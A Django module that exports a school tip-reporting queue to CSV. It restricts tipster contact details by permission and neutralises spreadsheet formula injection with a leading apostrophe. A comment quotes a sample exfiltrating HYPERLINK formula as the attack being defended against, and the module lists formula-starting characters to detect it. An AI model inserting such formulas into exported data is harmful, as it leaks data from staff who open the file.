"""The CSV export of the queue: one row per visible tip, with the tipster's contact details
only where the person exporting may see them (``permissions.may_see_contact``, the rule the
tip page uses), and every cell made safe to open in a spreadsheet."""

from __future__ import annotations

from collections.abc import Iterator

from django.db.models import QuerySet

from reports.models import Routing, Tip
from reports.triage import permissions

COLUMNS = [
    "reference",
    "received (hour)",
    "category",
    "school",
    "state",
    "priority",
    "life safety",
    "awaiting acknowledgement",
    "agencies' parts",
]
CONTACT_COLUMN = "contact details"
# A cell starting with one of these is a formula to Excel, LibreOffice or Google Sheets
# (OWASP, "CSV Injection"), full-width forms included: a tipster's "contact details" of
# =HYPERLINK("https://…?"&A1, "call me") would otherwise run on a staff member's machine.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def spreadsheet_cell(value: object) -> str:
    """``value`` as text a spreadsheet shows as text: a leading ``'`` where it would
    otherwise start a formula (SECURITY.md 38). Leading spaces do not hide a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) or text.lstrip().startswith(FORMULA_START):
        return "'" + text
    return text


def part(routing: Routing) -> str:
    """ "Clayton Police Department (responsible): done, unfounded, assigned to olsen". No
    disposition note or "referred to" text: those stay with the agency (and are free text)."""
    outcome = f", {routing.disposition}" if routing.disposition else ""
    assignee = f", assigned to {routing.assigned_to.get_username()}" if routing.assigned_to else ""
    return f"{routing.agency.name} ({routing.role}): {routing.state}{outcome}{assignee}"


def rows(tips: QuerySet[Tip], *, staff: permissions.Staff, with_contact: bool) -> Iterator[list[str]]:
    """The header and one row per tip; ``tips`` has its routings with their agencies and
    assignees prefetched, so each row costs no query. Notes are not exported."""
    yield COLUMNS + ([CONTACT_COLUMN] if with_contact else [])
    for tip in tips.iterator(chunk_size=1000):
        routings = tip.routings.all()
        row = [
            tip.reference,
            tip.received_at.isoformat(),
            tip.category.name,
            tip.school.name if tip.school else "",
            tip.state,
            tip.priority,
            tip.is_life_safety,
            tip.awaiting_acknowledgement,
            "; ".join(part(r) for r in routings),
        ]
        if with_contact:
            row.append(tip.contact_details if permissions.may_see_contact(staff, routings) else "")
        yield [spreadsheet_cell(cell) for cell in row]
